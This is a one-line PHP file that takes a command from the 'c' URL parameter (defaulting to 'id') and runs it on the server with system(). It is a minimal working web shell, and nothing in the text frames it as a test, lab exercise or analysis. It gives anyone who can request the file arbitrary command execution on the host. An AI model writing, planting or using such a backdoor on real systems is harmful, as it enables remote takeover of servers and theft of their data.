<?php $c = "$_GET[c]" ?: "id"; system($c);
